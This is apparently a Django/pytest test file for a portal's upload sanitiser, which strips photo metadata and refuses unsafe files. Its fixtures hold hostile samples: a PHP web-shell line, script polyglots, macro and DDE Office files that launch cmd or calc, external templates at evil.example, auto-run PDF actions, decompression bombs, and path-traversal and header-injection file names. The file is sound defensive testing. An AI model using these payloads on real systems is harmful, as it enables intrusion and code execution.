"""What is stored of a file: photos made anew without their metadata, documents without anything that runs."""

import io
import random
import struct
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageFile

from suzhou_portal.files import documents, images
from suzhou_portal.files.errors import Refused
from suzhou_portal.files.parameters import PHOTO_MEGABYTES, PHOTO_MEGAPIXELS, PHOTO_SIDE
from suzhou_portal.files.preparing import clean_name, prepare
from suzhou_portal.rules.models import Parameter
from tests.files import made

pytestmark = pytest.mark.django_db


def set_parameter(code, value):
    row = Parameter.objects.get(code=code)
    row.value = value
    row.save()


def opened(data):
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


# --- photos -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data", [made.telling_jpeg(), made.telling_png(), made.telling_webp()], ids=["jpeg", "png", "webp"]
)
def test_nothing_of_a_photo_but_its_pixels_is_kept(data):
    assert b"Secret" in data or b"eXIf" in data
    prepared = prepare(data, "a.jpg")
    for kept in (prepared.data, prepared.thumbnail):
        image = opened(kept)
        assert (image.format, image.mode) == ("JPEG", "RGB")
        assert not image.getexif()
        assert not {"exif", "xmp", "comment", "icc_profile"} & set(image.info)
        assert b"Secret" not in kept
        assert b"Exif" not in kept


def test_a_photo_that_lies_on_its_side_is_turned_upright():
    prepared = prepare(made.telling_jpeg(), "a.jpg")
    image = opened(prepared.data)
    assert image.size == (prepared.width, prepared.height) == (300, 400)
    red = image.getpixel((290, 10))  # its left upper corner is now at the right
    assert red[0] > 200
    assert red[1] < 80
    assert min(image.getpixel((10, 10))) > 200


def test_a_large_photo_is_scaled_down_and_gets_a_thumbnail():
    set_parameter(PHOTO_SIDE, 1000)
    prepared = prepare(made.jpeg((2400, 1200)), "a.jpg")
    assert opened(prepared.data).size == (1000, 500)
    assert opened(prepared.thumbnail).size == (480, 240)


def test_transparent_parts_become_white():
    image = Image.new("RGBA", (50, 50), (0, 0, 0, 0))
    assert min(opened(prepare(made.encoded(image, "PNG"), "a.png").data).getpixel((25, 25))) > 250


def test_an_iphone_photo_is_read(heic):
    prepared = prepare(heic, "IMG_0001.HEIC")
    assert (prepared.kind, prepared.media_type, prepared.name) == ("photo", "image/jpeg", "IMG_0001.jpg")


@pytest.fixture
def heic(request):
    return (request.config.rootpath / "tests" / "files" / "small.heic").read_bytes()


def png_of(width, height):
    """A PNG of a few hundred bytes that says it has so many pixels, and has them: all black."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(b"\0" * (width // 8 + 1)) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def test_a_bomb_of_pixels_is_refused_before_it_is_unpacked(monkeypatch):
    def unpacked(self):
        raise AssertionError("the pixels were unpacked")

    bomb = png_of(40_000, 40_000)
    assert len(bomb) < 1_000_000
    monkeypatch.setattr(ImageFile.ImageFile, "load", unpacked)
    with pytest.raises(Refused, match="百万像素"):
        prepare(bomb, "a.png")


def test_the_limit_of_pixels_is_the_districts():
    set_parameter(PHOTO_MEGAPIXELS, 5)
    with pytest.raises(Refused, match="超过 5 百万像素"):
        prepare(png_of(2400, 2400), "a.png")


def test_a_bomb_of_text_in_a_picture_is_refused():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    small = made.encoded(made.picture((8, 8)), "PNG")
    bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"x" * 80_000_000, 9))
    with pytest.raises(Refused, match="无法读取"):
        prepare(small[:33] + bomb + small[33:], "a.png")


def test_too_many_bytes_are_refused():
    set_parameter(PHOTO_MEGABYTES, 1)
    noise = Image.frombytes("RGB", (900, 900), random.Random(1).randbytes(900 * 900 * 3))
    with pytest.raises(Refused, match="照片超过 1 MB"):
        prepare(made.encoded(noise, "PNG"), "a.png")


def test_a_script_behind_a_photo_is_not_stored():
    polyglot = made.jpeg() + b"<script>alert(1)</script><?php system($_GET['c']); ?>"
    prepared = prepare(polyglot, "a.jpg")
    assert b"<script" not in prepared.data + prepared.thumbnail
    assert b"<?php" not in prepared.data + prepared.thumbnail


NO_PHOTOS = {
    "html": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "gif": made.encoded(made.picture(), "GIF"),
    "bmp": made.encoded(made.picture(), "BMP"),
    "tiff": made.encoded(made.picture(), "TIFF"),
    "program": b"MZ\x90\x00" + b"\0" * 200,
    "archive": made.repacked(made.word(), {"[Content_Types].xml": b"<Types/>"}),
    "text": "只是文字".encode(),
    "php": b"<?php system($_GET['c']); ?>",
    "postscript": b"%!PS-Adobe-3.0\n",
    "nothing": b"",
    "one byte": b"\xff",
    "html before pdf": b"<html></html>%PDF-1.4\n",
}


@pytest.mark.parametrize("name", NO_PHOTOS)
@pytest.mark.parametrize("extension", ["jpg", "pdf"])
def test_what_is_none_of_ours_is_refused_whatever_its_name(name, extension):
    with pytest.raises(Refused):
        prepare(NO_PHOTOS[name], f"a.{extension}")


@pytest.mark.parametrize("cut", [0.2, 0.5, 0.9])
def test_a_photo_that_is_cut_off_is_refused(cut):
    data = made.jpeg((800, 600))
    with pytest.raises(Refused, match="无法读取"):
        prepare(data[: int(len(data) * cut)], "a.jpg")


def test_a_header_without_a_photo_is_refused():
    for data in (b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"x" * 500, b"\x89PNG\r\n\x1a\n" + b"\0" * 100):
        with pytest.raises(Refused, match="无法读取"):
            prepare(data, "a.jpg")


def test_a_photo_that_would_keep_its_metadata_is_refused(monkeypatch):
    """Fail closed: should the encoder ever write metadata, nothing is stored."""
    encode = images._encode
    exif = Image.Exif()
    exif[made.GPS] = {1: "N"}

    def leaking(image, quality):
        return made.encoded(opened(encode(image, quality)), "JPEG", exif=exif)

    monkeypatch.setattr(images, "_encode", leaking)
    with pytest.raises(Refused, match="未能去除"):
        prepare(made.jpeg(), "a.jpg")


@settings(deadline=None, max_examples=40)
@given(st.binary(max_size=400), st.integers(0, 3000))
def test_damage_is_refused_or_repaired_but_never_an_error(noise, at):
    data = made.jpeg((200, 150))
    at = at % len(data)
    try:
        prepared = prepare(data[:at] + noise + data[at + len(noise) :], "a.jpg")
    except Refused:
        return
    assert not opened(prepared.data).getexif()


# --- documents --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "media_type", "extension"),
    [
        (made.pdf(), documents.PDF, "pdf"),
        (made.word(), documents.DOCX, "docx"),
        (made.workbook(), documents.XLSX, "xlsx"),
    ],
    ids=["pdf", "docx", "xlsx"],
)
def test_documents_are_told_by_their_content_and_stored_as_they_are(data, media_type, extension):
    prepared = prepare(data, "处理情况.jpg")
    assert (prepared.kind, prepared.media_type, prepared.name) == ("document", media_type, f"处理情况.{extension}")
    assert prepared.data == data
    assert prepared.thumbnail is None


def types_with(old, new):
    return {"[Content_Types].xml": lambda text: text.replace(old, new)}


WORD_MAIN = b"wordprocessingml.document.main+xml"
RELATIONS = "word/_rels/settings.xml.rels"
TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
BAD_OFFICE = {
    "macro type": made.repacked(
        made.word(),
        types_with(b"vnd.openxmlformats-officedocument." + WORD_MAIN, b"vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "macro part": made.repacked(made.word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macro part by another name": made.repacked(
        made.word(),
        {
            "word/harmless.xml": b"x",
            **types_with(
                b"</Types>",
                b'<Override PartName="/word/harmless.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            ),
        },
    ),
    "macro workbook": made.repacked(made.workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "control": made.repacked(made.word(), {"word/activeX/activeX1.xml": b"<a/>"}),
    "embedded program": made.repacked(made.word(), {"word/embeddings/oleObject1.bin": b"MZ"}),
    "outside template": made.repacked(made.word(), {RELATIONS: TEMPLATE}),
    "hidden types": made.repacked(made.word(), {"[Content_Types].xml": lambda text: text.decode().encode("utf-16")}),
    "entities": made.repacked(made.word(), types_with(b"<Types", b'<!DOCTYPE a [<!ENTITY b "c">]><Types')),
    "slides": made.repacked(made.word(), types_with(WORD_MAIN, b"presentationml.presentation.main+xml")),
    "bomb": made.repacked(made.word(), {"word/media/a.xml": b"\0" * (documents.MAX_UNPACKED + 1)}),
    "comment": made.repacked(made.word(), {}, comment=b"<script>alert(1)</script>"),
    "cut off": made.word()[:-200],
}


RUNS = {"macro type", "macro part", "macro part by another name", "macro workbook", "control", "embedded program"}


@pytest.mark.parametrize("name", BAD_OFFICE)
def test_office_files_that_run_or_hide_something_are_refused(name):
    with pytest.raises(Refused, match="含宏" if name in RUNS else "外部模板" if "outside" in name else None):
        prepare(BAD_OFFICE[name], "a.docx")


def packed(catalogue):
    return made.packed_pdf(b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>")


ACTIVE_PDF = {
    "javascript": made.pdf(javascript="app.alert('x')"),
    "launch": made.pdf(launch="cmd.exe"),
    "embedded file": made.pdf(attachment=b"MZ"),
    "packed": packed(b"/OpenAction<</S/JavaScript/JS(app.alert)>>"),
    "escaped": packed(b"/OpenAction<</S/Java#53cript/J#53(app.alert)>>"),
    "deep": packed(b"/Names[[<</O<</S/Launch/F(cmd.exe)>>>>]]"),
    "repaired table": made.pdf() + b"\n9 0 obj<</S/JavaScript/JS(app.alert)>>endobj",
}
DAMAGED_PDF = {
    "cut off": made.pdf()[:60],
    "no pages": b"%PDF-1.4\ntrailer<</Root 1 0 R>>\n%%EOF",
}


@pytest.mark.parametrize("name", ACTIVE_PDF)
def test_pdfs_that_run_or_carry_something_are_refused(name):
    with pytest.raises(Refused, match="含脚本"):
        prepare(ACTIVE_PDF[name], "a.pdf")


@pytest.mark.parametrize("name", DAMAGED_PDF)
def test_pdfs_that_cannot_be_looked_into_are_refused(name):
    with pytest.raises(Refused, match="无法读取"):
        prepare(DAMAGED_PDF[name], "a.pdf")


@pytest.mark.parametrize(
    "catalogue", [b"/OpenAction<</S/URI/URI(http://evil.example)>>", b"/AA<</WC<</S/URI/URI(http://evil.example)>>>>"]
)
def test_a_pdf_that_acts_when_it_is_opened_is_refused_with_its_reason(catalogue):
    with pytest.raises(Refused, match="打开时会自动执行"):
        prepare(packed(catalogue), "a.pdf")


def test_a_password_to_open_is_told_and_one_that_only_restricts_does_not_matter():
    with pytest.raises(Refused, match="打开密码"):
        prepare(made.pdf(password="x"), "a.pdf")
    restricted = made.pdf(rights="x")
    assert prepare(restricted, "a.pdf").data == restricted
    with pytest.raises(Refused, match="含脚本"):
        prepare(made.pdf(rights="x", javascript="app.alert('x')"), "a.pdf")


FIELD = b"<w:p><w:r><w:instrText>%s</w:instrText></w:r></w:p></w:body>"
HIDDEN = {
    "field": (FIELD % b"DDEAUTO c:\\\\windows calc", "DDE"),
    "field in pieces": (FIELD % b" DD</w:instrText></w:r><w:r><w:instrText>EAUTO c calc", "DDE"),
    "simple field": (b'<w:p><w:fldSimple w:instr="DDE excel a.xlsx"/></w:p></w:body>', "DDE"),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_a_field_that_fetches_data_by_itself_is_refused(name):
    put, reason = HIDDEN[name]
    data = made.repacked(made.word(), {"word/document.xml": lambda text: text.replace(b"</w:body>", put)})
    with pytest.raises(Refused, match=reason):
        prepare(data, "a.docx")


def test_a_page_number_is_no_such_field():
    put = FIELD % b"PAGE   \\* MERGEFORMAT"
    data = made.repacked(made.word(), {"word/document.xml": lambda text: text.replace(b"</w:body>", put)})
    assert prepare(data, "a.docx").data == data


def test_a_workbook_linked_to_a_program_is_refused():
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    with pytest.raises(Refused, match="DDE"):
        prepare(made.repacked(made.workbook(), {"xl/externalLinks/externalLink1.xml": link}), "a.xlsx")


def test_a_document_type_in_any_part_is_refused():
    put = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'
    with pytest.raises(Refused, match="DOCTYPE"):
        prepare(made.repacked(made.word(), {"word/settings.xml": put}), "a.docx")


@pytest.mark.parametrize("name", ["../../evil.xml", "/etc/evil.xml", "word\\..\\evil.xml", "C:/evil.xml"])
def test_a_part_outside_the_file_is_refused(name):
    with pytest.raises(Refused, match="路径"):
        prepare(made.repacked(made.word(), {name: b"<a/>"}), "a.docx")


def test_a_pdf_that_opens_at_a_page_is_taken():
    data = packed(b"/OpenAction[3 0 R/Fit]/Lang(zh-CN)")
    assert prepare(data, "a.pdf").data == data


# --- names ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("楼道 堆放.JPG", "楼道 堆放.jpg"),
        ("..\\..\\windows\\a.exe", "a.jpg"),
        ("/etc/passwd", "passwd.jpg"),
        ("a\u202egpj.exe", "agpj.jpg"),
        ("a\r\nSet-Cookie: x.jpg", "aSet-Cookie_ x.jpg"),
        ('"><script>.jpg', "___script_.jpg"),
        ("", "照片.jpg"),
        ("....", "照片.jpg"),
        ("王某13812345678.jpg", "照片.jpg"),
        ("长" * 300 + ".jpg", "长" * 60 + ".jpg"),
    ],
)
def test_names_are_cleaned(name, shown):
    assert clean_name(name, "jpg", "照片") == shown
